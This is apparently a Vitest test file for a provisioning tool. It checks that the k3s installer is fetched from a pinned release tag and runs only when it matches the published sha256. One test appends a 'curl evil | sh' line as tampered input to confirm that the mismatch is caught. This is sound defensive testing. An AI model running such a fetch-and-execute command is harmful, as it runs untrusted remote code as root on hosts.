// The k3s installer runs as root on every host: it comes from the release's tag and must
// have the sha256 that tag's install.sh.sha256sum states.
import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import {
  checkK3sInstaller,
  k3sInstallerSumUrl,
  k3sInstallerUrl,
  publishedInstallerSha256,
} from "../../src/provision/ssh/k3s.ts";
import { taggedInstaller } from "../helpers/k3s-installer.ts";

const text = "#!/bin/sh\necho install\n";
const hex = createHash("sha256").update(text).digest("hex");

describe("the k3s installer", () => {
  it("comes from the release's tag, not get.k3s.io, with the checksum file beside it", () => {
    expect(k3sInstallerUrl("v1.33.1+k3s1")).toBe(
      "https://raw.githubusercontent.com/k3s-io/k3s/v1.33.1%2Bk3s1/install.sh",
    );
    expect(k3sInstallerSumUrl("v1.33.1+k3s1")).toBe(
      "https://raw.githubusercontent.com/k3s-io/k3s/v1.33.1%2Bk3s1/install.sh.sha256sum",
    );
  });

  it("runs only with the sha256 its tag states", async () => {
    const expected = await publishedInstallerSha256("v1.33.1+k3s1", taggedInstaller(text));
    expect(expected).toBe(hex);
    expect(checkK3sInstaller(text, "u", expected)).toBe(text);
    expect(() => checkK3sInstaller(`${text}curl evil | sh\n`, "u", expected)).toThrow(
      `k3s installer u: checksum mismatch: expected sha256 ${hex}, got`,
    );
    expect(() => checkK3sInstaller("<html>", "u", expected)).toThrow("not a shell script");
  });

  it("refuses a release whose tag states no checksum, saying what to do", async () => {
    const url = k3sInstallerSumUrl("v1.21.0+k3s1");
    const missing = async (u: string) => {
      throw new Error(`k3s installer ${u}: HTTP 404`);
    };
    await expect(publishedInstallerSha256("v1.21.0+k3s1", missing)).rejects.toThrow(
      `k3s v1.21.0+k3s1: cannot read the installer's checksum ${url} (k3s installer ${url}: HTTP 404); k3s has published it beside the installer since late 2023: use a newer k3sVersion`,
    );
    await expect(
      publishedInstallerSha256("v1.21.0+k3s1", async () => "<html>not found</html>"),
    ).rejects.toThrow(`k3s v1.21.0+k3s1: ${url} holds no sha256 for install.sh`);
  });
});
